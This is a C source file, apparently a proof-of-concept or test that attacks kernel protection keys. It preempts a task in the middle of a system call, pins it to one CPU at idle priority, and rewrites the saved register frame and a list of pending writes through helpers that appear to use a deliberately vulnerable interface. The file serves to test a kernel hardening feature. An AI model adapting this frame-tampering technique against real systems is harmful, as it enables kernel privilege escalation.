// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have a task of the attacker preempted in the middle of a system call, by
 * another one that runs on the same CPU and is more important. The state that
 * the interrupt handler returns to waits on the stack, or in registers saved
 * there: alter it.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <stddef.h>
#include <time.h>
#include <unistd.h>

#include "raise.h"

/* So many take longer than a tick, after which a task is preempted for good. */
#define WRITES	(1 << 16)

/* How many of them are changed, from the next one on. */
#define CHANGED	4

static void stay(void)
{
	cpu_set_t first;

	CPU_ZERO(&first);
	CPU_SET(0, &first);
	if (sched_setaffinity(0, sizeof(first), &first))
		die_errno("staying on one CPU");
}

static void prepare(struct raise *r)
{
	const struct sched_param none = { 0 };

	(void)r;
	stay();
	if (sched_setscheduler(0, SCHED_IDLE, &none))
		die_errno("becoming less important");
}

static bool make(struct raise *r)
{
	return vuln_writes(r->list, WRITES);
}

static noreturn void alter(struct raise *r, pid_t victim)
{
	const struct timespec pause = { .tv_nsec = 3 * 1000 * 1000 };
	unsigned int round = 0;

	stay();
	for (;;) {
		struct kpkeys_vuln_frame f;
		u64 next, i;

		nanosleep(&pause, NULL);
		if (!r->busy)
			r->idle = r->round;
		if (!r->busy || r->round == round)
			continue;
		f = vuln_frame(victim);
		next = r->progress;
		if (!f.regs || f.asleep || next + CHANGED >= WRITES)
			continue;
		round = r->round;
		if (!alter_frame(r, victim, &f))
			continue;
		for (i = next; i < next + CHANGED; i++)
			r->list[i] = r->write;
	}
}

static const struct raising way = {
#ifdef __aarch64__
	.masks = { 1UL << 8, 1UL << 40, 1UL },
#else
	.masks = { 1UL, 1UL << 32, 1UL << 8 },
#endif
	.words = 48,
	.writes = WRITES,
	.prepare = prepare,
	.make = make,
	.alter = alter,
};

int main(int argc, char **argv)
{
	return attack_by_raising(&way, argc > 1 ? argv[1] : NULL);
}
